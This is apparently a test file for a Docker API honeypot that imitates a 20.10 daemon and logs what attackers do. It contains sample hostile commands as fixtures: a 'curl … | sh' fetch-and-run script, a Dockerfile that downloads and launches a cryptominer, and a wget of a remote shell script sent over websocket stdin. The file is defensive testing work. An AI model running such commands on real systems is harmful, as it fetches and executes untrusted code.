// More docker CLI commands against the trap (posing as 20.10, so the CLI takes the classic paths): cp both ways,
// diff, rename, commit, history, export, save/load, login, build, swarm init, events with filters, and the
// websocket attach. Each must complete as with a real daemon and land in the events — nothing runs or is fetched.
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { extract } from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dockerAsync } from '../../lab/index.js';
import { indicators, startTestTrap, until, type TestTrap } from './helpers.js';

let t: TestTrap;
let env: Record<string, string>;
let dir: string;
beforeAll(async () => {
  t = await startTestTrap({ engine: { version: '20.10.24' } });
  dir = mkdtempSync(join(tmpdir(), 'pcl-trap-more-'));
  env = { DOCKER_HOST: `tcp://127.0.0.1:${t.port}`, DOCKER_CONFIG: dir, DOCKER_BUILDKIT: '0' };
});
afterAll(async () => {
  expect(t.warnings).toEqual([]);
  await t.close();
});

async function tarNames(buf: Buffer): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const ex = extract();
  ex.on('entry', (h, s, next) => {
    const parts: Buffer[] = [];
    s.on('data', (c: unknown) => { if (Buffer.isBuffer(c)) parts.push(c); });
    s.on('end', () => { out.set(h.name, Buffer.concat(parts).toString('utf8')); next(); });
  });
  const done = new Promise<void>((r) => ex.on('finish', () => r()));
  ex.end(buf);
  await done;
  return out;
}

async function ok(args: string[], input?: string): Promise<string> {
  const r = await dockerAsync(env, args, input);
  expect(r.code, `docker ${args.join(' ')}: ${r.stderr}`).toBe(0);
  return r.stdout;
}

describe('trap: more docker CLI commands', () => {
  it('cp in and out, diff, rename, commit, history, export, save and load stay consistent', async () => {
    await ok(['create', '--name', 'pcl-trap-more', 'alpine', 'sh', '-c', 'sleep 1']);
    const f = join(dir, 'payload.sh');
    writeFileSync(f, '#!/bin/sh\ncurl -s http://more.example.invalid/m | sh\n');
    await ok(['cp', f, 'pcl-trap-more:/tmp/']);
    expect(indicators(t, 'url')).toContain('http://more.example.invalid/m');
    // docker cp out: the tar carries what was uploaded (and decoy files), never host files.
    const out = join(dir, 'out');
    await ok(['cp', 'pcl-trap-more:/tmp/payload.sh', out]);
    expect(readFileSync(out, 'utf8')).toBe('#!/bin/sh\ncurl -s http://more.example.invalid/m | sh\n');
    // A binary (a dropped miner, say) comes back byte for byte, not as zeros.
    const bin = join(dir, 'kworker');
    const bytes = randomBytes(200 * 1024);
    writeFileSync(bin, bytes);
    await ok(['cp', bin, 'pcl-trap-more:/tmp/']);
    const binOut = join(dir, 'kworker.out');
    await ok(['cp', 'pcl-trap-more:/tmp/kworker', binOut]);
    expect(readFileSync(binOut).equals(bytes)).toBe(true);
    const hostname = await ok(['cp', 'pcl-trap-more:/etc/hostname', '-']);
    expect((await tarNames(Buffer.from(hostname, 'latin1'))).get('hostname')).toMatch(/^[0-9a-f]{12}\n$/);
    const missing = await dockerAsync(env, ['cp', 'pcl-trap-more:/etc/no-such-file', join(dir, 'x')]);
    expect(missing.code).not.toBe(0);
    expect(missing.stderr).toContain('Could not find the file /etc/no-such-file in container pcl-trap-more');
    expect(await ok(['diff', 'pcl-trap-more'])).toBe('C /tmp\nA /tmp/kworker\nA /tmp/payload.sh\n');
    await ok(['rename', 'pcl-trap-more', 'pcl-trap-more2']);
    expect(await ok(['ps', '-a', '--filter', 'name=pcl-trap-more2', '--format', '{{.Names}}'])).toBe('pcl-trap-more2\n');
    const renameAgain = await dockerAsync(env, ['rename', 'pcl-trap-more', 'x1']);
    expect(renameAgain.stderr).toContain('No such container: pcl-trap-more');
    const id = (await ok(['commit', 'pcl-trap-more2', 'pcl-trap/committed:v1'])).trim();
    expect(id).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(await ok(['image', 'inspect', '--format', '{{.Id}}', 'pcl-trap/committed:v1'])).toBe(`${id}\n`);
    expect(await ok(['history', '-q', 'pcl-trap/committed:v1'])).toMatch(/^[0-9a-f]{12}\n<missing>\n$/);
    const exp = join(dir, 'export.tar');
    await ok(['export', '-o', exp, 'pcl-trap-more2']);
    const rootfs = await tarNames(readFileSync(exp));
    expect([...rootfs.keys()]).toEqual(expect.arrayContaining(['etc/', 'etc/passwd', 'tmp/payload.sh', '.dockerenv']));
    const saved = join(dir, 'save.tar');
    await ok(['save', '-o', saved, 'alpine']);
    const manifest = JSON.parse((await tarNames(readFileSync(saved))).get('manifest.json') ?? '[]') as { RepoTags: string[] }[];
    expect(manifest[0]?.RepoTags).toEqual(['alpine:latest']);
    expect(await ok(['load', '-i', saved])).toBe('Loaded image: alpine:latest\n');
    const load = t.eventsOf('trap.image.load_attempted');
    expect(load).toHaveLength(1);
    expect(load[0]).toMatchObject({ repo_tags: ['alpine:latest'] });
    const rm = await dockerAsync(env, ['rm', 'pcl-trap-more2']);
    expect(rm.code).toBe(0);
  });

  it('docker login records only hashes of the credentials', async () => {
    const pw = 'pcl-Trap-Secret-Passw0rd';
    const r = await dockerAsync(env, ['login', '-u', 'pcl-attacker', '--password-stdin', 'registry.example.invalid'], `${pw}\n`);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Login Succeeded');
    const ev = t.eventsOf('trap.auth.attempted');
    expect(ev).toHaveLength(1);
    expect(ev[0]).toMatchObject({ serveraddress: 'registry.example.invalid', password_sha256: createHash('sha256').update(pw).digest('hex'),
      username_sha256: createHash('sha256').update('pcl-attacker').digest('hex') });
    expect(JSON.stringify(t.sink.events)).not.toContain(pw);
    expect(JSON.stringify(t.sink.events)).not.toContain('pcl-attacker');
  });

  it('docker build (classic) records the Dockerfile and its indicators, builds nothing', async () => {
    const ctxDir = mkdtempSync(join(tmpdir(), 'pcl-trap-build-'));
    writeFileSync(join(ctxDir, 'Dockerfile'), 'FROM alpine:3.18\n# miner\nRUN wget -q http://203.0.113.77/xmrig -O /x && \\\n    chmod +x /x\nCMD ["/x", "-o", "pool.example.invalid:3333"]\n');
    const r = await dockerAsync(env, ['build', '-t', 'pcl-trap/built:1', ctxDir]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('Step 2/3 : RUN wget -q http://203.0.113.77/xmrig -O /x &&     chmod +x /x');
    expect(r.stdout).toContain('Successfully tagged pcl-trap/built:1');
    const ev = t.eventsOf('trap.build.attempted');
    expect(ev).toHaveLength(1);
    expect(ev[0]).toMatchObject({ from: ['alpine:3.18'], tags: ['pcl-trap/built:1'] });
    expect(String(ev[0]?.dockerfile)).toContain('RUN wget -q http://203.0.113.77/xmrig');
    expect(indicators(t, 'url')).toContain('http://203.0.113.77/xmrig');
    expect(indicators(t, 'image')).toContain('alpine:3.18');
  });

  it('docker swarm init answers as a stand-alone node that cannot pick an address', async () => {
    const r = await dockerAsync(env, ['swarm', 'init']);
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('could not choose an IP address to advertise');
    expect(t.eventsOf('trap.swarm.join_attempted')[0]).toMatchObject({ action: 'init' });
    const j = await dockerAsync(env, ['swarm', 'join', '--token', 'SWMTKN-1-pcltrap', '192.0.2.10:2377']);
    expect(j.stderr).toContain('Timeout was reached before node joined');
    expect(t.eventsOf('trap.swarm.join_attempted')[1]).toMatchObject({ action: 'join', remote_addrs: ['192.0.2.10:2377'] });
    expect(JSON.stringify(t.sink.events.filter((e) => e.eventid === 'trap.swarm.join_attempted'))).not.toContain('SWMTKN-1-pcltrap');
  });

  it('docker events honours container, event and label filters and since/until', async () => {
    await ok(['create', '--name', 'pcl-trap-ev', '--label', 'pcl=ev', 'alpine', 'true']);
    await ok(['rename', 'pcl-trap-ev', 'pcl-trap-ev2']);
    const now = Math.floor(Date.now() / 1000) + 1;
    const byName = await ok(['events', '--since', '0', '--until', String(now), '--filter', 'container=pcl-trap-ev2', '--format', '{{.Action}}']);
    expect(byName.trim().split('\n')).toEqual(['rename']);
    const byEvent = await ok(['events', '--since', '0', '--until', String(now), '--filter', 'event=create', '--filter', 'label=pcl=ev', '--format', '{{.Actor.Attributes.name}}']);
    expect(byEvent.trim().split('\n')).toEqual(['pcl-trap-ev']);
    const none = await ok(['events', '--since', '0', '--until', String(now), '--filter', 'image=busybox']);
    expect(none).toBe('');
  });

  it('docker container prune removes only stopped containers of the session; info and df stay consistent', async () => {
    await ok(['create', '--name', 'pcl-trap-prune', 'alpine', 'true']);
    const before = Number((await ok(['info', '--format', '{{.Containers}}'])).trim());
    const pruned = await ok(['container', 'prune', '-f']);
    expect(pruned).toMatch(/^Deleted Containers:\n([0-9a-f]{64}\n)+\nTotal reclaimed space: 0B\n$/);
    expect(await ok(['ps', '-a', '--filter', 'name=pcl-trap-prune', '--format', '{{.Names}}'])).toBe('');
    const after = Number((await ok(['info', '--format', '{{.Containers}}'])).trim());
    expect(after).toBeLessThan(before);
    expect(await ok(['ps', '--format', '{{.Names}}'])).toContain('web');
    expect((await ok(['info', '--format', '{{.NCPU}} {{.ServerVersion}}'])).trim()).toBe('8 20.10.24');
    expect(await ok(['system', 'df', '--format', '{{.Type}}'])).toBe('Images\nContainers\nLocal Volumes\nBuild Cache\n');
  });

  it('websocket attach: handshake, binary frames with the output, stdin frames analysed', async () => {
    await ok(['create', '--name', 'pcl-trap-ws', 'alpine', 'sh', '-c', 'echo from-ws']);
    const got: Buffer[] = [];
    const sock = connect(t.port, '127.0.0.1');
    await new Promise((r) => sock.on('connect', r));
    sock.on('data', (c) => got.push(c));
    sock.write('GET /v1.41/containers/pcl-trap-ws/attach/ws?stream=1&stdout=1&stdin=1 HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n'
      + 'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: http://x\r\n\r\n');
    await until(() => Buffer.concat(got).includes('\r\n\r\n'));
    expect(Buffer.concat(got).toString('latin1')).toContain('Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n');
    // A masked client text frame carrying a command on stdin.
    const payload = Buffer.from('wget http://ws.example.invalid/a.sh\n');
    const mask = Buffer.from([1, 2, 3, 4]);
    sock.write(Buffer.concat([Buffer.from([0x81, 0x80 | payload.length]), mask, Buffer.from(payload.map((b, i) => b ^ (mask[i % 4] ?? 0)))]));
    sock.write(Buffer.from([0x88, 0x80, 0, 0, 0, 0]));
    await ok(['start', 'pcl-trap-ws']);
    await new Promise((r) => sock.on('close', r));
    const all = Buffer.concat(got);
    const body = all.subarray(all.indexOf('\r\n\r\n') + 4);
    expect(body[0]).toBe(0x82);
    expect(body.subarray(2, 2 + (body[1] ?? 0)).toString()).toBe('from-ws\n');
    expect(body.subarray(body.length - 4)).toEqual(Buffer.from([0x88, 2, 0x03, 0xe8]));
    expect(indicators(t, 'url')).toContain('http://ws.example.invalid/a.sh');
  });
});
